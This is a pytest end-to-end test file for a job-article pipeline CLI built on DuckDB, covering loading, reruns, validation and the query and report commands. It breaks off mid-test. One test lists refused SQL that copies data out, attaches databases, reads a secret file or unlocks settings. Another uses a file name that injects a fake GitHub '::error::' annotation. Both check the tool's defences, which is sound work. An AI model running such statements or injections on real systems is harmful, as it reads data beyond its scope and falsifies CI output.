"""End to end: `jobpipeline run` on tmp seeds folders, checked by querying the DuckDB file it wrote."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import make_article
from helpers import cli, rows, run_local


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    return tmp_path / "wh" / "jobs.duckdb"


@pytest.fixture(params=["prefect", "local"])
def run(request: pytest.FixtureRequest) -> Callable[..., dict[str, Any]]:
    """`jobpipeline run --format json` as a user types it (through Prefect, on the session's real
    server), and with --local: scenarios where the route carries something (a first load's batches through
    the Prefect runner, flags into flow parameters, last known good in the flow's summary) hold on both.
    Edits, deletions, reruns and duplicate slugs are decided by the same plain functions on either route
    (test_load_plan.py's tables): they run once, locally, which keeps ~10 s of CPU off a 2-core suite."""
    if request.param == "local":
        return run_local
    request.getfixturevalue("prefect_harness")

    def through_prefect(seeds: Path, warehouse: Path, *extra: str) -> dict[str, Any]:
        result = cli("run", "--seeds", str(seeds), "--warehouse", str(warehouse), "--format", "json", *extra)
        assert result.exit_code in (0, 1), result.output
        record: dict[str, Any] = json.loads(result.stdout)
        [(flow_run_id,)] = rows(warehouse, f"SELECT flow_run_id FROM runs WHERE run_id = {record['run_id']}")
        assert flow_run_id  # a recorded flow run, not a bypass
        return record

    return through_prefect


def three_articles(write_seed: Callable[..., Path]) -> None:
    write_seed("a.txt", make_article("alpha", related=["beta", "ghost"]))
    write_seed("b.md", make_article("beta", related=["alpha"]))
    write_seed("sub/c.txt", make_article("gamma", category="engineering", related=["ghost", "beta"]))


def test_first_load(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], run: Callable[..., dict[str, Any]]
) -> None:
    """A first run loads every article, its bands and links, and reports what it did."""
    three_articles(write_seed)
    summary = run(seeds_dir, warehouse)
    assert (summary["files_seen"], summary["files_new"], summary["files_rejected"]) == (3, 3, 0)
    assert rows(warehouse, "SELECT slug, source_path, is_current FROM articles ORDER BY slug") == [
        ("alpha", "a.txt", True),
        ("beta", "b.md", True),
        ("gamma", "sub/c.txt", True),
    ]
    assert rows(warehouse, "SELECT count(*), min(min_yen), max(max_yen) FROM salary_bands") == [
        (9, 4_500_000, 18_000_000)
    ]
    assert rows(warehouse, "SELECT related_slug, resolved FROM related_jobs WHERE slug = 'alpha' ORDER BY ordinal") == [
        ("beta", True),
        ("ghost", False),
    ]
    assert rows(warehouse, "SELECT slug, wanted_by FROM missing_articles") == [("ghost", 2)]
    assert rows(warehouse, "SELECT files_seen, files_changed, status FROM runs") == [(3, 3, "ok")]


def test_no_change_rerun_loads_nothing(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """A second run with no change rewrites no article row and says so."""
    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    summary = run_local(seeds_dir, warehouse)
    assert summary["nothing_changed"] and summary["articles_loaded"] == 0
    assert summary["files_unchanged"] == 3
    assert rows(warehouse, "SELECT DISTINCT run_id FROM salary_bands") == [(1,)]
    result = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert "nothing changed" in result.stdout


def test_touch_without_change_is_unchanged(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """A new mtime with the same bytes is detected by hash: the file counts as unchanged."""
    path = write_seed("a.txt", make_article("alpha"))
    run_local(seeds_dir, warehouse)
    os.utime(path, ns=(1, 1))
    summary = run_local(seeds_dir, warehouse)
    assert (summary["files_changed"], summary["files_unchanged"]) == (0, 1)
    assert rows(warehouse, "SELECT mtime_ns FROM files") == [(1,)]


def test_edit_one_file(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """Editing one file rewrites only its rows and records the band's new version in history."""
    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    write_seed("b.md", make_article("beta", related=["alpha"], salary=[("ジュニア (0-3年)", "500〜800")]))
    summary = run_local(seeds_dir, warehouse)
    assert (summary["files_changed"], summary["articles_loaded"]) == (1, 1)
    assert rows(warehouse, "SELECT slug, run_id FROM salary_bands WHERE run_id = 2") == [("beta", 2)]
    assert rows(warehouse, "SELECT count(*) FROM salary_bands WHERE slug <> 'beta' AND run_id = 1") == [(6,)]
    history = rows(
        warehouse,
        "SELECT ordinal, min_yen, valid_from, valid_to FROM salary_band_history "
        "WHERE slug = 'beta' ORDER BY valid_from, ordinal",
    )
    assert history == [(0, 4_500_000, 1, 2), (1, 7_000_000, 1, 2), (2, 11_000_000, 1, 2), (0, 5_000_000, 2, None)]


def test_delete_one_file(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """A deleted file's article leaves the current tables; its history stays, closed."""
    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    (seeds_dir / "sub" / "c.txt").unlink()
    summary = run_local(seeds_dir, warehouse)
    assert (summary["files_deleted"], summary["articles_removed"]) == (1, 1)
    assert rows(warehouse, "SELECT count(*) FROM articles WHERE slug = 'gamma'") == [(0,)]
    assert rows(warehouse, "SELECT count(*) FROM tools WHERE slug = 'gamma'") == [(0,)]
    assert rows(warehouse, "SELECT count(*), min(valid_to) FROM salary_band_history WHERE slug = 'gamma'") == [(3, 2)]
    assert rows(warehouse, "SELECT slug, wanted_by FROM missing_articles") == [("ghost", 1)]


def test_broken_file_keeps_last_known_good(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], run: Callable[..., dict[str, Any]]
) -> None:
    """An accepted article whose JSON breaks keeps its rows, marked not current, and the run says so loudly."""
    three_articles(write_seed)
    run(seeds_dir, warehouse)
    write_seed("b.md", make_article("beta").replace('"slug": "beta",', '"slug": "beta"'))
    summary = run(seeds_dir, warehouse)
    assert summary["newly_broken"] == ["beta"] and summary["files_rejected"] == 1
    assert rows(warehouse, "SELECT is_current, run_id FROM articles WHERE slug = 'beta'") == [(False, 1)]
    assert rows(warehouse, "SELECT count(*) FROM salary_bands WHERE slug = 'beta'") == [(3,)]
    codes = rows(
        warehouse, "SELECT code, severity, line FROM validation_issues WHERE source_path = 'b.md' ORDER BY code"
    )
    assert ("frontmatter-invalid-json", "error", 3) in codes
    assert any(code == "kept-last-known-good" for code, _, _ in codes)
    # links to the kept article still resolve
    assert rows(warehouse, "SELECT resolved FROM related_jobs WHERE slug = 'alpha' AND related_slug = 'beta'") == [
        (True,)
    ]
    result = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert "LAST KNOWN GOOD" not in result.stdout  # said loudly once, when it broke
    write_seed("b.md", make_article("beta", title="fixed"))
    run(seeds_dir, warehouse)
    assert rows(warehouse, "SELECT is_current, title FROM articles WHERE slug = 'beta'") == [(True, "fixed")]


def test_breaking_an_article_prints_last_known_good_once(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """The text summary of the run (and of a re-validation) that breaks an accepted article names it under
    LAST KNOWN GOOD; the next run, with the file still broken, does not say it again."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("b.md", make_article("beta"))
    run_local(seeds_dir, warehouse)
    broken = make_article("beta").replace('"slug": "beta",', '"slug": "beta"')
    write_seed("b.md", broken)
    said = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse)).stdout
    assert "LAST KNOWN GOOD: `beta` no longer reads" in said, said
    again = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse)).stdout
    assert "LAST KNOWN GOOD" not in again, again

    write_seed("b.md", make_article("beta", title="fixed"))
    run_local(seeds_dir, warehouse)
    write_seed("b.md", broken)
    said = cli("revalidate", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse), "b.md").stdout
    assert "LAST KNOWN GOOD: `beta` no longer reads; its previous version is kept" in said, said


def test_broken_first_seen_file_loads_nothing(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], run: Callable[..., dict[str, Any]]
) -> None:
    """A new file that never read leaves no article, only findings; the others load."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("bad.txt", b"\x82\xa0\x82\xa2 shift_jis")
    summary = run(seeds_dir, warehouse, "--strict")
    assert summary["files_rejected"] == 1
    assert rows(warehouse, "SELECT slug FROM articles") == [("alpha",)]
    assert rows(warehouse, "SELECT code FROM validation_issues WHERE source_path = 'bad.txt'") == [
        ("encoding-not-utf8",)
    ]
    result = cli("run", "--local", "--strict", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert result.exit_code == 1


def test_duplicate_slugs(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """The earlier path keeps a duplicated slug; the later file is rejected naming it; deleting the
    winner hands the slug to the other file."""
    write_seed("a.txt", make_article("alpha", title="first"))
    write_seed("z.txt", make_article("alpha", title="second"))
    summary = run_local(seeds_dir, warehouse)
    assert summary["files_rejected"] == 1
    assert rows(warehouse, "SELECT title, source_path FROM articles") == [("first", "a.txt")]
    [(message,)] = rows(warehouse, "SELECT message FROM validation_issues WHERE code = 'slug-duplicate'")
    assert "a.txt" in message
    assert rows(warehouse, "SELECT source_path, status FROM files ORDER BY 1") == [
        ("a.txt", "accepted"),
        ("z.txt", "duplicate"),
    ]
    (seeds_dir / "a.txt").unlink()
    run_local(seeds_dir, warehouse)
    assert rows(warehouse, "SELECT title, source_path FROM articles") == [("second", "z.txt")]
    assert rows(warehouse, "SELECT count(*) FROM validation_issues WHERE code = 'slug-duplicate'") == [(0,)]


def test_a_copy_saved_beside_a_loaded_article_never_takes_its_slug(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """`mlops のコピー.txt` (Finder's copy) sorts before `mlops.txt`: the next run gave the copy the slug, replaced the
    article's rows with the copy's (a template being edited into another job, under a schedule), rejected the
    original and told its writer to "delete the copy", meaning the original. The loaded article keeps its slug;
    `validate` names the same file as the run; a fresh warehouse still decides by path order."""
    write_seed("mlops.txt", make_article("mlops_engineer", title="MLOpsエンジニアの年収"))
    run_local(seeds_dir, warehouse)
    write_seed("mlops のコピー.txt", make_article("mlops_engineer", title="データエンジニアの年収（下書き）"))
    env = {"JOBPIPELINE_WAREHOUSE": str(warehouse)}
    checked = cli("validate", "--seeds", str(seeds_dir), "--format", "json", env=env)
    [said] = [json.loads(line) for line in checked.stdout.splitlines() if "slug-duplicate" in line]
    assert said["source_path"].endswith("mlops のコピー.txt"), said
    assert "used by mlops.txt, whose article the warehouse holds" in said["message"]
    summary = run_local(seeds_dir, warehouse)
    assert summary["files_rejected"] == 1
    assert rows(warehouse, "SELECT title, source_path FROM articles") == [("MLOpsエンジニアの年収", "mlops.txt")]
    assert rows(warehouse, "SELECT source_path, status FROM files ORDER BY 1") == [
        ("mlops のコピー.txt", "duplicate"),
        ("mlops.txt", "accepted"),
    ]
    [(where, message)] = rows(
        warehouse, "SELECT source_path, message FROM validation_issues WHERE code = 'slug-duplicate'"
    )
    assert where == "mlops のコピー.txt" and "delete this file if it is a copy" in message
    fresh = warehouse.parent.parent / "fresh" / "jobs.duckdb"
    run_local(seeds_dir, fresh)
    assert rows(fresh, "SELECT source_path FROM articles") == [("mlops のコピー.txt",)]


def test_row_lineage(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], seed_bytes: bytes) -> None:
    """Every per-article row names its source file, content hash and run (the real seed fills every table)."""
    import hashlib

    path = write_seed("a.txt", seed_bytes)
    run_local(seeds_dir, warehouse)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    for table in (
        "articles",
        "salary_bands",
        "related_job_links",
        "sections",
        "skills",
        "tools",
        "career_stages",
        "interview_questions",
        "tags",
        "keywords",
    ):
        lineage = rows(warehouse, f"SELECT DISTINCT source_path, content_hash, run_id FROM {table}")
        assert lineage == [("a.txt", digest, 1)], table


def test_manifest_matches_files(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """The manifest lists every dataset with its real row count, columns and sha256."""
    import hashlib

    import duckdb

    three_articles(write_seed)
    run_local(seeds_dir, warehouse, "--csv")
    published = warehouse.parent / "published"
    manifest = json.loads((published / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["run_id"] == 1
    names = {d["name"] for d in manifest["datasets"]}
    assert {
        "articles",
        "salary_bands",
        "salary_by_category_level",
        "related_jobs",
        "missing_articles",
        "tag_counts",
        "tool_counts",
        "validation_report",
    } <= names
    for dataset in manifest["datasets"]:
        file = published / dataset["file"]
        assert hashlib.sha256(file.read_bytes()).hexdigest() == dataset["sha256"]
        conn = duckdb.connect()
        count = conn.execute(f"SELECT count(*) FROM '{file}'").fetchall()[0][0]
        columns = [r[0] for r in conn.execute(f"DESCRIBE SELECT * FROM '{file}'").fetchall()]
        assert count == dataset["rows"] and columns == [c["name"] for c in dataset["columns"]]
        assert (published / dataset["csv"]["file"]).read_bytes().startswith(b"\xef\xbb\xbf")
    assert rows(warehouse, "SELECT count(*) FROM articles") == [(3,)]


def test_query_and_tables_commands(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """`query` prints results in each format and one line for bad SQL; `tables` lists every table."""
    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    result = cli("query", "--warehouse", str(warehouse), "--format", "json", "SELECT slug FROM articles ORDER BY slug")
    assert json.loads(result.stdout) == [{"slug": "alpha"}, {"slug": "beta"}, {"slug": "gamma"}]
    result = cli("query", "--warehouse", str(warehouse), "--format", "csv", "SELECT count(*) AS n FROM articles")
    assert result.stdout == "n\n3\n"
    result = cli("query", "--warehouse", str(warehouse), "--format", "markdown", "SELECT 1 AS one")
    assert result.stdout.splitlines()[:3] == ["| one |", "|---|", "| 1 |"]
    result = cli("query", "--warehouse", str(warehouse), "SELECT nope FROM articles")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert len(result.stderr.strip().splitlines()) == 1
    result = cli("tables", "--warehouse", str(warehouse))
    for table in ("articles", "salary_bands", "related_jobs", "validation_issues", "runs", "salary_band_history"):
        assert table in result.stdout
    result = cli("query", "--warehouse", str(warehouse.parent / "none.duckdb"), "SELECT 1")
    assert result.exit_code == 2 and "jobpipeline run" in result.stderr


@pytest.fixture(scope="module")
def one_article_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse of one article, for tests that only query it."""
    root = tmp_path_factory.mktemp("one-article")
    (root / "seeds").mkdir()
    (root / "seeds" / "a.txt").write_text(make_article("alpha"), encoding="utf-8")
    run_local(root / "seeds", root / "wh" / "jobs.duckdb")
    return root / "wh" / "jobs.duckdb"


def test_a_list_reads_the_same_in_every_query_format(one_article_warehouse: Path) -> None:
    """`tool_counts.spellings` was `["Grafana"]` in CSV and JSON but Python's `['Grafana']` in the table and
    markdown formats (and a BLOB `b'ab'`): one spelling everywhere."""
    sql = "SELECT ['Grafana', 'グラファナ'] AS spellings, 'ab'::BLOB AS raw"
    said = {}
    for output_format in ("table", "markdown", "csv"):
        result = cli("query", "--warehouse", str(one_article_warehouse), "--format", output_format, sql)
        assert result.exit_code == 0, result.output
        said[output_format] = result.stdout
    assert '["Grafana", "グラファナ"]' in said["table"] and "['Grafana'" not in said["table"]
    assert '| ["Grafana", "グラファナ"] | ab |' in said["markdown"]
    assert '"[""Grafana"", ""グラファナ""]",ab' in said["csv"]


@pytest.mark.parametrize(
    ("where", "hint"),
    [
        pytest.param(
            "level = 'シニア'",
            "hint: `level` holds entry, junior, mid, senior, lead or manager, never 'シニア' (the row label as written "
            "is `level_label`: `level_label LIKE '%シニア%'`)",
            id="a-japanese-level",
        ),
        pytest.param(
            "basis IN ('年収')",
            "hint: `basis` holds annual, monthly, hourly, daily or unknown, never '年収'",
            id="basis",
        ),
        pytest.param(
            "level = 'principal'", "hint: `level` holds entry, junior", id="an-english-level-not-on-the-ladder"
        ),
        pytest.param("level = 'senior' AND slug = 'nobody'", "", id="a-coded-value-that-is-right-gets-no-hint"),
    ],
)
def test_no_rows_from_a_value_a_coded_column_never_holds_says_so(
    one_article_warehouse: Path, where: str, hint: str
) -> None:
    """`WHERE level = 'シニア'` (the articles' own word) answered "no rows", as if no article had a senior band:
    `level` holds English codes. The answer stays the answer (stdout); a hint on stderr names the codes."""
    for output_format in ("table", "csv"):
        result = cli(
            "query",
            "--warehouse",
            str(one_article_warehouse),
            "--format",
            output_format,
            f"SELECT slug FROM salary_bands WHERE {where}",
        )
        assert result.exit_code == 0, result.output
        assert "hint" not in result.stdout
        assert hint in result.stderr if hint else "hint" not in result.stderr, result.stderr


@pytest.mark.parametrize(
    ("sql", "said"),
    [
        ("SELECT * FROM article", 'Did you mean "articles"?'),
        ("SELECT slg FROM articles", 'Candidate bindings: "slug"'),
        ("SELEC 1", 'syntax error at or near "SELEC"'),
    ],
)
def test_bad_sql_keeps_duckdbs_suggestion_on_its_one_line(tmp_path: Path, sql: str, said: str) -> None:
    """A typo in a table or column name gets DuckDB's own suggestion on the error's one line: only the
    first line was kept, so `FROM article` said the table does not exist but not that `articles` does."""
    import duckdb

    warehouse = tmp_path / "jobs.duckdb"
    with duckdb.connect(str(warehouse)) as conn:
        conn.execute("CREATE TABLE articles (slug VARCHAR)")
    result = cli("query", "--warehouse", str(warehouse), sql)
    assert result.exit_code == 2, result.output
    [line] = result.stderr.strip().splitlines()
    assert said in line and "jobpipeline tables" in line, line


def test_query_reaches_no_file_but_the_warehouse(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], tmp_path: Path
) -> None:
    """`query` refuses, with one line and exit 2, SQL that writes or reads other files, attaches
    another database for writing or unlocks the settings; the report still reads the warehouse."""
    import duckdb

    three_articles(write_seed)
    run_local(seeds_dir, warehouse)
    other = tmp_path / "other.duckdb"
    duckdb.connect(str(other)).execute("CREATE TABLE keep AS SELECT 1 AS one").close()
    secret = tmp_path / "secret.txt"
    secret.write_text("not for query\n", encoding="utf-8")
    copied = tmp_path / "copied.csv"
    refused = [
        f"COPY articles TO '{copied}'",
        f"ATTACH '{other}' AS other (READ_WRITE)",
        f"SELECT * FROM read_text('{secret}')",
        f"SELECT * FROM read_csv('{secret}')",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
    ]
    for sql in refused:
        result = cli("query", "--warehouse", str(warehouse), "--format", "csv", sql)
        assert result.exit_code == 2, (sql, result.output)
        assert len(result.stderr.strip().splitlines()) == 1 and "warehouse only" in result.stderr, result.stderr
        assert "not for query" not in result.output
    assert not copied.exists()
    assert rows(other, "SELECT * FROM keep") == [(1,)]
    result = cli("query", "--warehouse", str(warehouse), "--format", "csv", "SELECT count(*) AS n FROM articles")
    assert result.stdout == "n\n3\n"
    result = cli("report", "--warehouse", str(warehouse), "--out", str(tmp_path / "page.html"))
    assert result.exit_code == 0 and (tmp_path / "page.html").stat().st_size > 0
    # `--out reports/`, a folder: the page goes in it, as cp would put it (it was an internal error).
    (tmp_path / "reports").mkdir()
    result = cli("report", "--warehouse", str(warehouse), "--out", str(tmp_path / "reports"))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "reports" / "report.html").stat().st_size > 0
    assert str(tmp_path / "reports" / "report.html") in result.stdout
    # `--out /dev/stdout > page.html` (/dev/stdout is a link to /proc/self/fd/1): written through, never
    # replaced. The rename replaced the /dev/stdout link itself (as root), and the redirection got nothing.
    (tmp_path / "page.html").unlink()
    os.symlink(tmp_path / "page.html", tmp_path / "link.html")
    result = cli("report", "--warehouse", str(warehouse), "--out", str(tmp_path / "link.html"))
    assert result.exit_code == 0, result.output
    assert result.stdout == "" and f"report: {tmp_path / 'link.html'}" in result.stderr
    assert (tmp_path / "link.html").is_symlink()
    assert (tmp_path / "page.html").read_text(encoding="utf-8").rstrip().endswith("</html>")


def test_warehouse_opens_with_duckdb_1x_storage(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """The file is written in the v1.0.0 storage format so DuckDB 1.x CLIs can open it."""
    write_seed("a.txt", make_article("alpha"))
    run_local(seeds_dir, warehouse)
    [(tags,)] = rows(warehouse, "SELECT tags FROM duckdb_databases() WHERE database_name = 'jobs'")
    assert tags["storage_version"].startswith("v1.0.0")


def test_env_vars_set_defaults(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """JOBPIPELINE_SEEDS and JOBPIPELINE_WAREHOUSE stand in for --seeds and --warehouse."""
    write_seed("a.txt", make_article("alpha"))
    result = cli("run", "--local", env={"JOBPIPELINE_SEEDS": str(seeds_dir), "JOBPIPELINE_WAREHOUSE": str(warehouse)})
    assert result.exit_code == 0, result.output
    assert rows(warehouse, "SELECT slug FROM articles") == [("alpha",)]


def test_missing_seeds_folder_is_one_line(tmp_path: Path) -> None:
    """A missing seeds folder is one clear error line and exit code 2."""
    result = cli("run", "--local", "--seeds", str(tmp_path / "nope"), "--warehouse", str(tmp_path / "w.duckdb"))
    assert result.exit_code == 2
    assert "seeds folder" in result.stderr and "Traceback" not in result.output


def test_each_run_publishes_a_report(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], tmp_path: Path
) -> None:
    """Each run publishes report.html (listed in the manifest); `report` names it or writes a new one."""
    write_seed("a.txt", make_article("alpha"))
    run_local(seeds_dir, warehouse)
    published = warehouse.parent / "published"
    manifest = json.loads((published / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["report"]["file"] == "report.html"
    assert "alpha" in (published / "report.html").read_text(encoding="utf-8")
    result = cli("report", "--warehouse", str(warehouse))
    assert result.exit_code == 0 and "published/report.html" in result.stdout
    target = tmp_path / "mine.html"
    result = cli("report", "--warehouse", str(warehouse), "--out", str(target))
    assert result.exit_code == 0 and target.read_text(encoding="utf-8").lower().startswith("<!doctype html>")
    # published/ removed by hand (or never written by an older version): the warehouse is there, and the
    # error says what to do instead of "does not exist yet: run `jobpipeline run` first".
    shutil.rmtree(warehouse.parent / ".published")
    published.unlink()
    result = cli("report", "--warehouse", str(warehouse))
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.strip().splitlines() == [
        f"error: warehouse {warehouse}: no report is published beside it (published/report.html): run "
        "`jobpipeline run` to publish one, or `jobpipeline report --out report.html` to write one from the "
        "warehouse now"
    ]


def test_any_file_name(seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]) -> None:
    """A name that is not UTF-8 (`latin1_\\xe9\\xff.txt`, a Latin-1 folder) crashed every run and validate
    (UnicodeEncodeError, exit 2, no file named): now each is one `file-name-not-utf8` error shown escaped
    and the rest loads. Names with a newline load too; no output line is split by one, and no line
    starts with `::error::` unless it is our own annotation."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("x\n::error::evil.txt", make_article("evil", related=["ghost"]))
    write_seed("tab\there.md", make_article("tabbed", related=["ghost"]))
    root = os.fsencode(seeds_dir)
    (Path(os.fsdecode(root + b"/latin1_\xe9\xff.txt"))).write_text(make_article("latin"), encoding="utf-8")
    os.mkdir(root + b"/dir_\xff")
    (Path(os.fsdecode(root + b"/dir_\xff/c.txt"))).write_text(make_article("inside"), encoding="utf-8")

    run = cli("run", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse))
    assert run.exit_code == 0, run.output  # was 2 (internal error); findings never fail a run
    lines = run.stdout.splitlines()
    assert "  latin1_\\xe9\\xff.txt: error[file-name-not-utf8] the name is not UTF-8" in "\n".join(lines)
    assert "  dir_\\xff: error[file-name-not-utf8]" in "\n".join(lines)
    assert rows(warehouse, "SELECT slug, source_path FROM articles ORDER BY slug") == [
        ("alpha", "a.txt"),
        ("evil", "x\n::error::evil.txt"),
        ("tabbed", "tab\there.md"),
    ]
    assert rows(
        warehouse, "SELECT source_path FROM validation_issues WHERE code = 'file-name-not-utf8' ORDER BY 1"
    ) == [("dir_\\xff",), ("latin1_\\xe9\\xff.txt",)]
    published = sorted((warehouse.parent / "published").rglob("articles.parquet"))
    assert published and rows(warehouse, f"SELECT count(*) FROM '{published[-1]}'") == [(3,)]

    text = cli("validate", "--seeds", str(seeds_dir))
    github = cli("validate", "--seeds", str(seeds_dir), "--format", "github")
    for result in (run, text, github):
        assert not any(line.startswith("::error::") for line in result.stdout.splitlines()), result.stdout
    assert "x\\n::error::evil.txt:" in text.stdout and "tab\\there.md:" in text.stdout
    assert "latin1_\\xe9\\xff.txt: error[file-name-not-utf8]" in text.stdout
    annotations = [line for line in github.stdout.splitlines() if line.startswith("::")]
    assert all(line.startswith(("::error file=", "::warning file=")) for line in annotations), annotations
    assert any("file=" + str(seeds_dir) + "/x%0A%3A%3Aerror%3A%3Aevil.txt," in line for line in annotations)
    assert text.exit_code == github.exit_code == 1
    # As the pre-commit hook and `watch` name it: the path itself, not UTF-8.
    one = cli("validate", "--seeds", str(seeds_dir), os.fsdecode(root + b"/latin1_\xe9\xff.txt"))
    assert one.exit_code == 1, one.output
    assert "latin1_\\xe9\\xff.txt: error[file-name-not-utf8]" in one.stdout
    assert one.stdout.count("\n") == 2, one.stdout  # the finding and the summary


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ("nope.txt", "no such file in the seeds folder"),
        # A folder is there, not missing: it said "no such file", which sends a person looking for a typo.
        ("2025", "is a folder: name the files to re-validate"),
        # It said "re-validated 1 file ... 0 changed" for a file no run ever reads.
        ("notes.csv", "is not a seed file (seed files are *.txt or *.md"),
        (".ipynb_checkpoints/b-checkpoint.txt", "is not a seed file"),
    ],
)
def test_revalidate_a_path_that_is_not_a_seed_file_is_one_line_exit_2(
    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path], given: str, said: str
) -> None:
    """`revalidate seeds/nope.txt`, `revalidate seeds/2025` (a folder) or `revalidate seeds/notes.csv` names
    the path, says which it is and exits 2 instead of reporting a re-validation."""
    write_seed("a.txt", make_article("alpha"))
    write_seed("2025/b.txt", make_article("beta"))
    write_seed("notes.csv", "slug,title\n")
    write_seed(".ipynb_checkpoints/b-checkpoint.txt", make_article("beta"))
    path = str(seeds_dir / given)
    result = cli("revalidate", "--local", "--seeds", str(seeds_dir), "--warehouse", str(warehouse), path)
    assert result.exit_code == 2, result.output
    assert result.stdout == "" and len(result.stderr.strip().splitlines()) == 1
    assert path in result.stderr and said in result.stderr, result.stderr
    assert not warehouse.exists()


@pytest.mark.parametrize("command", ["run", "validate", "revalidate"])
def test_seeds_that_is_a_file_says_so(
    command: str, seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
) -> None:
    """`--seeds FILE` says the path is a file, not a folder (it said the folder "does not exist")."""
    article = str(write_seed("a.txt", make_article("alpha")))
    extra = {"run": ["--local", "--warehouse", str(warehouse)], "validate": [], "revalidate": ["--local", article]}
    result = cli(command, "--seeds", article, *extra[command])
    assert result.exit_code == 2, result.output
    assert f"seeds folder {article} is a file, not a folder" in result.stderr
    assert "does not exist" not in result.stderr


@pytest.fixture
def small_warehouse(tmp_path: Path) -> Path:
    """A real DuckDB file with one empty table: enough for `query`, with no run to pay for."""
    import duckdb

    path = tmp_path / "small.duckdb"
    conn = duckdb.connect(str(path))
    conn.execute("CREATE TABLE runs (run_id INTEGER)")
    conn.close()
    return path


@pytest.mark.parametrize(
    "sql", ["INSERT INTO runs VALUES (1)", "DROP TABLE runs", "CREATE TABLE t (a INTEGER)", "DELETE FROM runs"]
)
def test_query_write_says_queries_are_read_only(small_warehouse: Path, sql: str) -> None:
    """A write in `query` is told the warehouse is read-only for queries, not to "see jobpipeline tables"."""
    result = cli("query", "--warehouse", str(small_warehouse), sql)
    assert result.exit_code == 2
    assert "queries are read-only" in result.stderr and "jobpipeline tables" not in result.stderr


def test_query_with_no_rows_says_so(small_warehouse: Path) -> None:
    """An empty result prints `no rows` (not `0 rows`); a single row is `1 row`; empty SQL is a usage error."""
    result = cli("query", "--warehouse", str(small_warehouse), "SELECT run_id FROM runs")
    assert result.exit_code == 0 and result.stdout.splitlines() == ["no rows (columns: run_id)"]
    result = cli("query", "--warehouse", str(small_warehouse), "SELECT 1 AS one")
    assert result.stdout.splitlines()[-1] == "1 row"
    result = cli("query", "--warehouse", str(small_warehouse), "  ")
    assert result.exit_code == 2 and "the SQL is empty" in result.output


@pytest.mark.parametrize(
    ("rows", "extra", "drawn", "last"),
    [
        (40, [], 40, "40 rows"),
        (1_000, [], 40, "1000 rows (the first 40 shown: --max-rows 0 shows all, --format csv writes every row)"),
        (1_000, ["--max-rows", "5"], 5, "1000 rows (the first 5 shown: --max-rows 0 shows all, --format csv"),
        (1_000, ["--max-rows", "0"], 1_000, "1000 rows"),
    ],
)
def test_query_draws_a_screenful_as_a_table_and_says_how_many_there_are(
    small_warehouse: Path, rows: int, extra: list[str], drawn: int, last: str
) -> None:
    """`query "SELECT * FROM salary_bands"` on a large warehouse drew every row as a terminal table: 100,000
    rows took 19 s and 300 MB before the first line showed. The table shows the first 40 (`--max-rows`)
    and says how many there are; csv, json and markdown write every row."""
    sql = f"SELECT range AS i FROM range({rows})"
    result = cli("query", "--warehouse", str(small_warehouse), sql, *extra)
    assert result.exit_code == 0, result.output
    numbers = [line for line in result.stdout.splitlines() if line.strip("│ ").isdigit()]
    assert len(numbers) == drawn
    assert result.stdout.splitlines()[-1].startswith(last)
    csv = cli("query", "--warehouse", str(small_warehouse), sql, "--format", "csv", *extra)
    assert len(csv.stdout.splitlines()) == rows + 1


def test_ctrl_c_during_a_long_query_says_interrupted_not_internal_error(small_warehouse: Path) -> None:
    """DuckDB turns Ctrl-C during a query into RuntimeError("Query interrupted"), which `query` printed as
    "internal error ... report it". It is the person's Ctrl-C: one word, exit 130. A real process and a
    real SIGINT (in process, a test worker's own signal handling decided the outcome)."""
    import signal
    import subprocess
    import sys

    # ~2 s of work on 2 idle cores: DuckDB notices a Ctrl-C during a query only some of the time (about one
    # in two here); when it does not, the query ends and Python raises KeyboardInterrupt just after it.
    long_sql = "SELECT count(*) FROM range(600000000) WHERE range % 7 = 3"
    query = subprocess.Popen(
